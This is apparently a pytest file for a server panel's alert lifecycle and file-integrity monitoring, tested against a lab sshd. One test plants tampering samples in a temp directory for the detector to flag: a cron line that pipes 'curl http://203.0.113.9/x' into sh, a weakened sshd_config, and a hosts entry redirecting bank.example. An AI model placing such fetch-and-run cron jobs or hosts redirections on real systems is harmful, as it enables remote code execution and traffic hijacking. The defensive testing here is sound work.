"""The alert lifecycle over the store: new, acknowledged, resolved; silences; de-duplication; history;
and, against a real sshd, watched files reported until the operator accepts them (audited)."""

from __future__ import annotations

import datetime as dt
import os
import pwd
from collections.abc import Iterator
from pathlib import Path

import pytest

from panel.alerts import AlertBook, run_checks
from panel.context import PanelContext
from panel.lab.sshd import SshdServer
from panel.secrets import SecretStore
from panel.store import Store
from services.checks import ids
from services.checks.model import Action, CheckResult, Severity
from services.checks.vendors import VendorKeys
from services.errors import PanelError
from tests.keyrings import MemoryKeyring
from tests.services.checks.check_helpers import free_port, listening

T0 = dt.datetime(2024, 3, 5, 12, 0, tzinfo=dt.UTC)
USER = pwd.getpwuid(os.geteuid()).pw_name


def at(minutes: int) -> dt.datetime:
    return T0 + dt.timedelta(minutes=minutes)


def result(check: str = ids.PORTS, severity: Severity = Severity.WARNING, subject: str = "tcp 0.0.0.0:8081",
           server: str = "app1", summary: str = "") -> CheckResult:
    return CheckResult(server, check, severity, summary or f"{check} {subject} is {severity}", subject,
                       (f"evidence of {subject}",), Action("Show processes", "Processes", server))


def ok(check: str = ids.PORTS, server: str = "app1") -> CheckResult:
    return CheckResult(server, check, Severity.OK, "fine")


@pytest.fixture
def book(tmp_path: Path) -> Iterator[AlertBook]:
    store = Store(tmp_path / "store.sqlite3")
    yield AlertBook(store)
    store.close()


def test_a_repeat_updates_the_open_alert_instead_of_adding_one(book: AlertBook) -> None:
    first = book.record([result()], now=at(0))
    assert len(first.opened) == 1 and first.opened[0].status == "new"
    again = book.record([result()], now=at(5))
    assert again.opened == [] and [a.id for a in again.current] == [first.opened[0].id]
    alert = book.get(first.opened[0].id)
    assert alert is not None and alert.occurrences == 2 and alert.last_seen == at(5) and alert.first_seen == at(0)
    assert len(book.open_alerts()) == 1


def test_new_then_acknowledged_then_resolved_and_the_history_is_kept(book: AlertBook) -> None:
    alert = book.record([result()], now=at(0)).opened[0]
    acknowledged = book.acknowledge(alert.id, now=at(1))
    assert acknowledged.status == "acknowledged"
    still = book.record([result()], now=at(2))
    assert still.current[0].status == "acknowledged"  # a repeat does not undo the acknowledgement
    cleared = book.record([ok()], now=at(3))
    assert [a.id for a in cleared.resolved] == [alert.id]
    assert book.open_alerts() == []
    history = book.alerts(include_resolved=True)
    assert [(a.id, a.status, a.resolution) for a in history] == [(alert.id, "resolved", "cleared")]
    assert [kind for _, kind, _ in book.events(alert.id)] == ["opened", "acknowledged", "resolved"]
    # when it comes back, it is a new alert, and the old one stays in the history
    back = book.record([result()], now=at(10))
    assert back.opened and back.opened[0].id != alert.id
    assert any(e.action == "alert.acknowledge" for e in book.store.audit_entries())


def test_a_worse_severity_reopens_an_acknowledged_alert(book: AlertBook) -> None:
    alert = book.record([result(ids.DISK, Severity.WARNING, "/")], now=at(0)).opened[0]
    book.acknowledge(alert.id, now=at(1))
    worse = book.record([result(ids.DISK, Severity.CRITICAL, "/")], now=at(2))
    assert [a.id for a in worse.escalated] == [alert.id]
    assert worse.escalated[0].status == "new" and worse.escalated[0].severity is Severity.CRITICAL
    assert [a.id for a in worse.needs_notice(at(2))] == [alert.id]


def test_a_check_that_could_not_run_resolves_nothing(book: AlertBook) -> None:
    port = book.record([result()], now=at(0)).opened[0]
    blocked = CheckResult("app1", ids.PORTS, Severity.UNKNOWN, "ss is not installed")
    recorded = book.record([blocked], now=at(1))
    assert recorded.resolved == []
    assert {a.id for a in book.open_alerts()} >= {port.id}
    # a server that was not reached at all leaves its alerts as they were too
    book.record([CheckResult("app1", ids.SERVER, Severity.CRITICAL, "app1 is down")], now=at(2))
    still = book.get(port.id)
    assert still is not None and still.status == "new"


def test_only_the_subjects_that_went_away_are_resolved(book: AlertBook) -> None:
    book.record([result(subject="tcp 0.0.0.0:8081"), result(subject="udp 0.0.0.0:5353")], now=at(0))
    recorded = book.record([result(subject="tcp 0.0.0.0:8081")], now=at(1))
    assert [a.subject for a in recorded.resolved] == ["udp 0.0.0.0:5353"]
    assert [a.subject for a in book.open_alerts()] == ["tcp 0.0.0.0:8081"]


def test_a_silence_hides_the_alert_for_a_while_and_outlives_its_resolution(book: AlertBook) -> None:
    critical = book.record([result(ids.SERVER, Severity.CRITICAL, "")], now=dt.datetime.now(dt.UTC)).opened[0]
    book.record([result(ids.SERVER, Severity.CRITICAL, ""), result()])
    assert book.summary() == (Severity.CRITICAL, 2)
    silenced = book.silence(critical.id, dt.datetime.now(dt.UTC) + dt.timedelta(hours=1), reason="maintenance")
    assert silenced.silenced() and silenced.display_status == "silenced"
    assert book.summary() == (Severity.WARNING, 1)
    # resolved and back within the hour: still silent, so no notification
    book.record([ok(ids.SERVER), result()])
    back = book.record([result(ids.SERVER, Severity.CRITICAL, ""), result()])
    assert back.opened and back.opened[0].silenced() and back.needs_notice() == []
    book.unsilence(back.opened[0].id)
    assert book.summary() == (Severity.CRITICAL, 2)
    with pytest.raises(PanelError):
        book.silence(critical.id, dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1))


def test_what_changed_since_the_operator_last_looked(book: AlertBook) -> None:
    kept = book.record([result(subject="a"), result(subject="b")], now=at(0)).opened
    looked = at(1)
    book.record([result(subject="a"), result(subject="c"), result(ids.DISK, Severity.WARNING, "/")], now=at(2))
    book.record([result(subject="a"), result(subject="c"), result(ids.DISK, Severity.CRITICAL, "/")], now=at(3))
    back = book.changes_since(looked)
    assert sorted(a.subject for a in back.opened) == ["/", "c"]
    assert [a.subject for a in back.resolved] == ["b"]
    assert "2 new" in back.text() and "1 resolved" in back.text()
    assert kept[0].id not in {a.id for a in back.opened + back.changed + back.resolved}
    book.mark_looked(at(4))
    assert book.last_looked() == at(4)


# --- against a real server ----------------------------------------------------------------------------


@pytest.fixture
def context_for(tmp_path: Path, lab_client_key: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator:
    monkeypatch.setenv("PANEL_DATA_DIR", str(tmp_path / "data"))
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    contexts: list[PanelContext] = []

    def make(server: SshdServer, checks: str) -> PanelContext:
        config = tmp_path / "panel.toml"
        config.write_text(
            f'[servers.app1]\nhost = "127.0.0.1"\nport = {server.port}\nuser = "{USER}"\n'
            f'identity = "{lab_client_key}"\nhost_key = "{server.host_key_line}"\n\n[servers.app1.checks]\n{checks}\n')
        context = PanelContext.open(config, store=Store(tmp_path / "store.sqlite3"),
                                    secrets=SecretStore(MemoryKeyring()))
        contexts.append(context)
        return context

    yield make
    for context in contexts:
        context.close()
        context.store.close()


def files_alert(run_alerts: list[CheckResult]) -> CheckResult | None:
    return next((r for r in run_alerts if r.check == ids.FILES and r.is_alert), None)


def test_changed_added_and_removed_files_are_reported_until_accepted(sshd_server: SshdServer, tmp_path: Path,
                                                                     context_for) -> None:
    watched = tmp_path / "etc"
    (watched / "ssh").mkdir(parents=True)
    (watched / "ssh" / "sshd_config").write_text("PasswordAuthentication no\n")
    (watched / "crontab").write_text("17 * * * * root run-parts /etc/cron.hourly\n")
    context = context_for(sshd_server, f'watch_paths = ["{watched}"]')
    book = AlertBook(context.store)
    first = run_checks(context, keys=VendorKeys(), book=book)
    assert files_alert(first.sweep.results) is None and book.baseline("app1") is not None

    (watched / "ssh" / "sshd_config").write_text("PasswordAuthentication yes\n")
    (watched / "cron.d").mkdir()
    (watched / "cron.d" / "job").write_text("* * * * * root curl http://203.0.113.9/x | sh\n")
    (watched / "crontab").unlink()
    second = run_checks(context, keys=VendorKeys(), book=book)
    alert = files_alert(second.sweep.results)
    assert alert is not None and alert.severity is Severity.WARNING
    lines = "\n".join(alert.evidence)
    assert f"changed {watched / 'ssh' / 'sshd_config'}: content" in lines
    assert f"added   {watched / 'cron.d'} (folder" in lines
    assert f"added   {watched / 'cron.d' / 'job'} (file" in lines
    assert f"removed {watched / 'crontab'}" in lines
    stored = [a for a in book.open_alerts() if a.check == ids.FILES]
    assert len(stored) == 1 and stored[0].action is not None and stored[0].action.title == "Review and accept"
    # until accepted, every sweep keeps reporting it (the same alert)
    third = run_checks(context, keys=VendorKeys(), book=book)
    assert files_alert(third.sweep.results) is not None
    assert [a.id for a in book.open_alerts() if a.check == ids.FILES] == [stored[0].id]

    accepted = book.accept("app1")
    assert accepted.counts == {"added": 2, "removed": 1, "changed": 1}
    entry = book.store.audit_entries(action_prefix="checks.accept")[0]
    assert entry.target == "app1" and entry.outcome == "ok" and "2 added, 1 removed, 1 changed" in entry.detail
    assert [a for a in book.open_alerts() if a.check == ids.FILES] == []
    resolved = book.get(stored[0].id)
    assert resolved is not None and resolved.resolution == "accepted"
    after = run_checks(context, keys=VendorKeys(), book=book)
    assert files_alert(after.sweep.results) is None
    with pytest.raises(PanelError):
        book.accept("app1")  # nothing left to accept


def test_accepting_is_refused_when_new_changes_arrived_since_the_review(sshd_server: SshdServer, tmp_path: Path,
                                                                        context_for) -> None:
    watched = tmp_path / "etc"
    watched.mkdir()
    (watched / "hosts").write_text("127.0.0.1 localhost\n")
    context = context_for(sshd_server, f'watch_paths = ["{watched}"]')
    book = AlertBook(context.store)
    run_checks(context, keys=VendorKeys(), book=book)
    (watched / "hosts").write_text("127.0.0.1 localhost\n203.0.113.66 bank.example\n")
    run_checks(context, keys=VendorKeys(), book=book)
    reviewed = book.pending("app1")
    assert reviewed is not None and len(reviewed.lines) == 1
    (watched / "new").write_text("x\n")
    run_checks(context, keys=VendorKeys(), book=book)
    with pytest.raises(PanelError, match="review them again"):
        book.accept("app1", scan_id=reviewed.scan_id)


def test_a_restarted_listener_keeps_its_alert_and_its_acknowledgement(sshd_server: SshdServer,
                                                                       context_for) -> None:
    port = free_port()
    context = context_for(sshd_server, f"expected_ports = [{sshd_server.port}]")
    book = AlertBook(context.store)
    subject = f"tcp 0.0.0.0:{port}"
    with listening(port):
        run = run_checks(context, keys=VendorKeys(), book=book)
    alert = next(a for a in run.recorded.opened if a.subject == subject)
    book.acknowledge(alert.id)
    with listening(port):  # the same program, restarted: a new pid
        again = run_checks(context, keys=VendorKeys(), book=book)
    assert subject not in {a.subject for a in again.recorded.opened + again.recorded.escalated}
    current = book.get(alert.id)
    assert current is not None and current.status == "acknowledged" and current.occurrences == 2
    gone = run_checks(context, keys=VendorKeys(), book=book)
    assert alert.id in {a.id for a in gone.recorded.resolved}
